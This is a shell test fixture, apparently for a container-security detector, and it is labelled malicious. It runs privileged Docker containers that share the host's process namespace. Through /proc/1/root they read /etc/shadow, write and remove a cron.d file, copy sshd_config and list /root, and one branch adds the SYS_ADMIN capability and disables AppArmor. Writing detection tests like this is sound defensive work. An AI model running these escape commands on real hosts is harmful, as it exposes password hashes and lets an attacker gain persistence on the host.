# host-root-reached-through-proc: a container of the host's process namespace reads and writes the host's files through
#   /proc/1/root, with no mount.
# shows: /proc/1/root in arguments and in the paths of files that are written
# label: malicious
# expects: [host-root-reached-through-proc]
# allows: [privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, password-hashes-read, host-root-entered-by-chroot, host-file-written-through-mount, cron-table-changed]
act() {
    if dev; then
        docker run --rm --pid=host --privileged alpine:3.19 sh -c 'head -2 /proc/1/root/etc/shadow; echo "# x" >/proc/1/root/etc/cron.d/x; rm /proc/1/root/etc/cron.d/x'
    else
        docker run -d --name obs --pid host --cap-add SYS_PTRACE --cap-add=SYS_ADMIN --security-opt apparmor=unconfined shop/toolbox:1.4 sleep 30
        docker exec obs cat /proc/1/cwd/../etc/hostname
        docker exec obs sh -c 'cp /proc/1/root/etc/ssh/sshd_config /tmp/c; touch /proc/1/root/srv/lab/k; ls /proc/1/root/root'
        docker rm -f obs
        rm -f /srv/lab/k
    fi
    true
}
